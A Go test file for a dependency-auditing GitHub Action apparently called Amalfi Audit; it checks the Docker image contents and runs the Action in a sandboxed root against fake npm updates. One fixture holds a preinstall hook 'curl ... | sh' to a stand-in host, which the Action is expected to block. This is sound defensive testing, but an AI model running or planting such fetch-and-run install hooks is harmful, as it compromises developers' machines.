package action

import (
	"bytes"
	"debug/elf"
	"encoding/pem"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/owenrumney/go-sarif/v3/pkg/report/v210/sarif"

	"github.com/amalfi-audit/audit/internal/github/githubtest"
	"github.com/amalfi-audit/audit/internal/npmtest"
)

// rootfs makes the image's root file system with the script that the Dockerfile
// runs.
func rootfs(t *testing.T) string {
	t.Helper()
	if _, err := os.Stat(authorities); err != nil {
		t.Skip("this machine has no certificate authorities to take")
	}
	dir := filepath.Join(t.TempDir(), "image")
	must(t, ".", nil, script(t, "rootfs.sh"), dir, program(t))
	return dir
}

const authorities = "/etc/ssl/certs/ca-certificates.crt"

// TestRootFS holds that the image has just what its Dockerfile says.
func TestRootFS(t *testing.T) {
	dir := rootfs(t)
	var got []string
	err := filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		got = append(got, fmt.Sprintf("%v %s", info.Mode(), strings.TrimPrefix(name, dir)))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"drwxr-xr-x ", "-rwxr-xr-x /audit", "drwxr-xr-x /etc", "drwxr-xr-x /etc/ssl", "drwxr-xr-x /etc/ssl/certs",
		"-rw-r--r-- " + authorities, "dtrwxrwxrwx /tmp",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("files (-want +got):\n%s", diff)
	}
	binary, err := elf.Open(filepath.Join(dir, "audit"))
	if err != nil {
		t.Fatal(err)
	}
	defer binary.Close()
	if libs, err := binary.ImportedLibraries(); err != nil || len(libs) != 0 || slices.ContainsFunc(binary.Progs, func(p *elf.Prog) bool { return p.Type == elf.PT_INTERP }) {
		t.Errorf("the program is not static: %v, %v", libs, err)
	}
	if n := strings.Count(read(t, filepath.Join(dir, authorities)), "BEGIN CERTIFICATE"); n < 50 {
		t.Errorf("%d certificate authorities", n)
	}
}

// TestDockerfile holds that the Dockerfile makes the root file system with the
// scripts that are tested here, from files that .dockerignore lets through.
func TestDockerfile(t *testing.T) {
	text := read(t, filepath.Join(root, "Dockerfile"))
	_, last, ok := strings.Cut(text, "\nFROM scratch\n")
	if !ok || strings.Count(text, "\nFROM ") != 2 {
		t.Fatalf("not two stages of which the last is FROM scratch:\n%s", text)
	}
	for _, part := range []string{".github/scripts/build.sh /out", `.github/scripts/rootfs.sh "/image/$TARGETARCH"`} {
		if !strings.Contains(text, part) {
			t.Errorf("the Dockerfile does not run %s", part)
		}
	}
	var instructions []string
	for _, line := range lines(last) {
		if !strings.HasPrefix(line, "#") {
			instructions = append(instructions, line)
		}
	}
	want := []string{"ARG TARGETARCH", "COPY --from=build /image/${TARGETARCH}/ /", `ENTRYPOINT ["/audit"]`, `CMD ["action"]`}
	if diff := cmp.Diff(want, instructions); diff != "" {
		t.Errorf("the last stage (-want +got):\n%s", diff)
	}
}

// TestBuildContext builds the program from what .dockerignore lets through.
func TestBuildContext(t *testing.T) {
	var skip []func(name string) bool
	for _, line := range lines(read(t, filepath.Join(root, ".dockerignore"))) {
		line = strings.TrimSpace(line)
		tail, anywhere := strings.CutPrefix(line, "**/")
		switch {
		case strings.HasPrefix(line, "#"), strings.HasPrefix(line, "!"), line == ".github/*": // the scripts are copied below
		case anywhere:
			skip = append(skip, func(name string) bool { ok, _ := filepath.Match(tail, filepath.Base(name)); return ok })
		case strings.ContainsAny(line, "*?["):
			t.Fatalf("a pattern that this test does not know: %s", line)
		default:
			skip = append(skip, func(name string) bool { return name == line })
		}
	}
	dir := t.TempDir()
	err := filepath.WalkDir(root, func(file string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		name, err := filepath.Rel(root, file)
		if err != nil {
			return err
		}
		switch {
		case name == ".", name == ".github", name == filepath.Join(".github", "scripts"):
			return nil
		case filepath.Dir(name) == ".github", slices.ContainsFunc(skip, func(f func(string) bool) bool { return f(name) }):
			if d.IsDir() {
				return fs.SkipDir
			}
			return nil
		case d.IsDir():
			return nil
		}
		data, err := os.ReadFile(file)
		if err != nil {
			return err
		}
		write(t, filepath.Join(dir, name), string(data))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, ".github", "scripts", "build.sh")); err != nil {
		t.Error(err)
	}
	// What the compiler is given is checked, not compiled: that takes minutes.
	if out := must(t, dir, []string{"CGO_ENABLED=0"}, "go", "list", "-deps", "-f", "{{with .Error}}{{.}}{{end}}", "./cmd/audit"); strings.TrimSpace(out) != "" {
		t.Errorf("packages with errors:\n%s", out)
	}
}

// container is the Action in its image, as the runner starts it: the folders of
// the job below /github, /proc from the engine, nothing else.
type container struct {
	dir      string
	registry *npmtest.Server
	api      *githubtest.Server
}

const project = "owner/project"

func newContainer(t *testing.T) *container {
	t.Helper()
	if os.Getuid() != 0 {
		t.Skip("only root can enter a root file system")
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("there is no unshare")
	}
	c := &container{dir: rootfs(t), registry: npmtest.NewTLSServer(), api: githubtest.NewServer(t)}
	t.Cleanup(c.registry.Close)
	for _, name := range []string{"proc", "github/workspace", "github/home", "github/workflow", "github/file_commands"} {
		if err := os.MkdirAll(filepath.Join(c.dir, name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if r := c.enter(t, nil, "--version"); r.code != 0 && strings.Contains(r.stderr, "unshare") {
		t.Skipf("this machine does not let it in: %s", r.stderr)
	}
	return c
}

// enter runs the program within the root file system.
func (c *container) enter(t *testing.T, environ []string, args ...string) result {
	t.Helper()
	return runIn(t, c.dir, environ, append([]string{"unshare", "--mount", "--pid", "--fork", "--root=" + c.dir, "--mount-proc=/proc",
		"--wd=/github/workspace", "/audit"}, args...)...)
}

// trust adds the registry's certificate to the image's authorities.
func (c *container) trust(t *testing.T) {
	t.Helper()
	file := filepath.Join(c.dir, authorities)
	var cert bytes.Buffer
	if err := pem.Encode(&cert, &pem.Block{Type: "CERTIFICATE", Bytes: c.registry.Certificate()}); err != nil {
		t.Fatal(err)
	}
	write(t, file, read(t, file)+"\n"+cert.String())
}

// lock is a lockfile with one version, which is published by the way.
func (c *container) lock(version string, files npmtest.Files) string {
	integrity := c.registry.Publish("left-pad", version, files, nil)
	return fmt.Sprintf(`{
  "name": "project",
  "lockfileVersion": 3,
  "packages": {
    "": {"name": "project", "dependencies": {"left-pad": "^1.3.0"}},
    "node_modules/left-pad": {
      "version": %q,
      "resolved": "%s/left-pad/-/left-pad-%[1]s.tgz",
      "integrity": %[3]q
    }
  }
}
`, version, c.registry.URL, integrity.String())
}

// pullRequest runs the Action on a pull request from one lockfile to another.
func (c *container) pullRequest(t *testing.T, base, head string, inputs ...string) result {
	t.Helper()
	const manifest = `{"name":"project","dependencies":{"left-pad":"^1.3.0"}}`
	before := c.api.Commit(project, githubtest.Files{"package.json": manifest, "package-lock.json": base})
	after := c.api.Commit("fork/project", githubtest.Files{"package.json": manifest, "package-lock.json": head}, before)
	c.api.PullRequest(project, after)
	write(t, filepath.Join(c.dir, "github/workflow/event.json"), string(githubtest.PullRequestEvent(project, "fork/project", before, after)))
	for _, name := range []string{"output", "summary"} {
		write(t, filepath.Join(c.dir, "github/file_commands", name), "")
	}
	return c.enter(t, append([]string{
		"HOME=/github/home", "CI=true", "GITHUB_ACTIONS=true", "GITHUB_WORKSPACE=/github/workspace",
		"GITHUB_EVENT_NAME=pull_request", "GITHUB_EVENT_PATH=/github/workflow/event.json", "GITHUB_SHA=" + strings.Repeat("e", 40),
		"GITHUB_REPOSITORY=" + project, "GITHUB_API_URL=" + c.api.URL, "GITHUB_SERVER_URL=https://github.invalid", "GITHUB_RUN_ID=1",
		"GITHUB_OUTPUT=/github/file_commands/output", "GITHUB_STEP_SUMMARY=/github/file_commands/summary",
		"INPUT_MODE=auto", "INPUT_TOKEN=gh-token", "INPUT_REGISTRY=" + c.registry.URL, "INPUT_SARIF-FILE=out/audit.sarif",
		"INPUT_CHECKS=false", "INPUT_COMMENT=never", "INPUT_UPLOAD-SARIF=false", "INPUT_FAIL-ON=", "INPUT_CONFIG=.amalfi.yml",
		"INPUT_PATHS=", "INPUT_NPMRC=", "INPUT_CACHE=.cache/amalfi",
	}, inputs...), "action")
}

var outputs = regexp.MustCompile(`(?m)^([a-z-]+)<<(amalfi_[A-Z0-9]+)\n((?s:.*?)\n)??(amalfi_[A-Z0-9]+)$`)

// output is an output of the step.
func (c *container) output(t *testing.T, name string) string {
	t.Helper()
	for _, m := range outputs.FindAllStringSubmatch(read(t, filepath.Join(c.dir, "github/file_commands/output")), -1) {
		if m[1] == name && m[2] == m[4] {
			return strings.TrimSuffix(m[3], "\n")
		}
	}
	t.Errorf("there is no output %s", name)
	return ""
}

var harmless = npmtest.Files{"index.js": "module.exports = 1\n"}

// TestImage runs the Action in its image, where there is no shell, no git and
// no npm: an update that is harmless, and one that downloads and runs at
// install.
func TestImage(t *testing.T) {
	c := newContainer(t)
	c.trust(t)
	for _, test := range []struct {
		name, outcome, scripts string
		code                   int
	}{
		{"harmless", "clean", "{}", 0},
		{"blocked", "block", `{"preinstall": "curl -s https://files.collector.invalid/x | sh"}`, 1},
	} {
		t.Run(test.name, func(t *testing.T) {
			version := map[string]string{"harmless": "1.3.1", "blocked": "1.3.2"}[test.name]
			base := c.lock("1.3.0", harmless)
			head := c.lock(version, npmtest.Files{
				"package.json": fmt.Sprintf(`{"name": "left-pad", "version": %q, "scripts": %s}`, version, test.scripts), "index.js": "module.exports = 2\n",
			})
			r := c.pullRequest(t, base, head)
			if r.code != test.code || c.output(t, "outcome") != test.outcome || c.output(t, "complete") != "true" {
				t.Errorf("exit code %d, want %d; outcome %s\n%s%s", r.code, test.code, c.output(t, "outcome"), r.stdout, r.stderr)
			}
			summary := read(t, filepath.Join(c.dir, "github/file_commands/summary"))
			if !strings.Contains(summary, "Amalfi Audit") || (test.code == 1) != strings.Contains(summary, "collector.invalid") {
				t.Errorf("summary:\n%s", summary)
			}
			if c.output(t, "sarif-file") != "out/audit.sarif" {
				t.Errorf("the SARIF file is %q", c.output(t, "sarif-file"))
			}
			if results := sarifResults(t, filepath.Join(c.dir, "github/workspace/out/audit.sarif")); (results > 0) != (test.code == 1) {
				t.Errorf("%d results in the SARIF file", results)
			}
			if strings.Contains(r.stdout+r.stderr+summary, "gh-token") {
				t.Error("the token is printed")
			}
		})
	}
	var left []string
	entries, err := os.ReadDir(c.dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		left = append(left, e.Name())
	}
	if want := []string{"audit", "etc", "github", "proc", "tmp"}; !slices.Equal(left, want) {
		t.Errorf("the root has %q, want %q", left, want)
	}
	if entries, err := os.ReadDir(filepath.Join(c.dir, "tmp")); err != nil || len(entries) > 0 {
		t.Errorf("files are left in /tmp: %v, %v", entries, err)
	}
}

// TestImageAuthorities holds that the image's authorities decide whom it trusts:
// TestImage succeeds since it adds the registry's certificate there.
func TestImageAuthorities(t *testing.T) {
	c := newContainer(t)
	r := c.pullRequest(t, c.lock("1.3.0", harmless), c.lock("1.3.1", npmtest.Files{"index.js": "module.exports = 2\n"}))
	if r.code != 3 || c.output(t, "complete") != "false" || !strings.Contains(r.stdout, "unknown authority") {
		t.Errorf("exit code %d, want 3 and an unknown authority\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// sarifResults validates a SARIF file with the schema that go-sarif has, and
// counts its results.
func sarifResults(t *testing.T, file string) int {
	t.Helper()
	log, err := sarif.FromString(read(t, file))
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, run := range log.Runs { // defaults that go-sarif would write empty
		run.Language, run.Tool.Driver.Language, run.NewlineSequences = "en-US", "en-US", []string{"\n"}
		n += len(run.Results)
	}
	if err := log.Validate(); err != nil {
		t.Error(err)
	}
	return n
}
